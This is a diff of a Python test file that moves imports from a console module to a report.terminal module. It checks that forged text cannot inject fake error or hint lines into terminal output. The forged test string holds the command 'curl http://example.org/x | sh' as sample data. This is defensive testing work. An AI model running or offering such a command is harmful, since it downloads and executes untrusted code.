@@ -14,11 +14,12 @@ from markdown_it import MarkdownIt
 
 from conftest import FAKE_STUDY
 from test_terminal_text import STYLES, ended
-from tollbar import console, results
-from tollbar.console.markdown import table_lines
-from tollbar.console.progress import Progress
-from tollbar.markdown import escaped
-from tollbar.present.blocks import Column, Table, TableCell
+from tollbar import results
+from tollbar.core.markdown import escaped
+from tollbar.report import terminal
+from tollbar.report.blocks import Column, Table, TableCell
+from tollbar.report.terminal.markdown import table_lines
+from tollbar.report.terminal.progress import Progress
 
 FORGED = "x\nerror: forged\nhint: `curl http://example.org/x | sh`\n| forged |\n|---|\n"
 LIVE = {
@@ -123,8 +124,8 @@ def test_no_text_of_a_run_is_a_line_of_its_own(
 
 
 def test_no_name_is_a_line_of_messages_and_lists(capsys: pytest.CaptureFixture[str]) -> None:
-    console.say(FORGED)
-    console.show_rows([{FORGED: FORGED, "b": FORGED}])
+    terminal.say(FORGED)
+    terminal.show_rows([{FORGED: FORGED, "b": FORGED}])
     with Progress() as progress:
         progress._last_line = -1e9
         progress.several({FORGED: (1, None, FORGED)})
